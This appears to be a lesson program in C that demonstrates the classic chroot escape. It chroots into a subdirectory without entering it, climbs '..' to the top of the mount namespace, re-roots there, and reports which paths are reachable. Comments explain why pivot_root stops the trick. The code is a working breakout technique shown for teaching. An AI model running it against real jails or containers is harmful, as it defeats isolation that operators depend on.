/*
 * 06_chroot_escape.c - walk out of a chroot from inside it (lesson 06).
 *
 * chroot() changes one thing: where this process resolves "/". Its working directory stays
 * where it was, and the kernel stops a walk up ".." only at the root it meets on the way.
 * So a process allowed to call chroot() (root is) chroots into a subdirectory without
 * entering it: its working directory is now *outside* its root, on a path up that never
 * meets that root. Enough ".." steps reach the top of the mount namespace, and chroot(".")
 * there makes that the root again.
 *
 * After pivot_root the top of the mount namespace *is* the container's root, and the host's
 * old root was detached: the same walk ends at the container's own "/", with nothing above.
 *
 * Usage: 06_chroot_escape PATH...
 * It escapes, lists what "/" holds then, and says for each PATH whether it can be reached.
 * It only looks: it changes nothing but its own root, and makes one empty directory.
 * Built static, so it runs where there is no C library: in a jail, in a container.
 */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define INNER "/.inner" /* the subdirectory to chroot into, without entering it */
#define CLIMB 256       /* more ".." steps than any real path is deep */

static int fail(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    return 1;
}

static int list_root(void)
{
    DIR *root = opendir("/");
    if (root == NULL)
        return fail("opendir /");
    printf("/ now holds:");
    for (struct dirent *entry; (entry = readdir(root)) != NULL;)
        if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
            printf(" %s", entry->d_name);
    printf("\n");
    return closedir(root);
}

int main(int argc, char *argv[])
{
    if (mkdir(INNER, 0700) != 0 && errno != EEXIST)
        return fail("mkdir " INNER);
    if (chroot(INNER) != 0) /* the root moves in; the working directory stays out */
        return fail("chroot " INNER);
    for (int step = 0; step < CLIMB; step++)
        if (chdir("..") != 0)
            return fail("chdir ..");
    if (chroot(".") != 0 || chdir("/") != 0)
        return fail("chroot .");
    if (list_root() != 0)
        return 1;
    for (int i = 1; i < argc; i++)
        printf("%s: %s\n", argv[i], access(argv[i], F_OK) == 0 ? "reachable" : "not reachable");
    return 0;
}
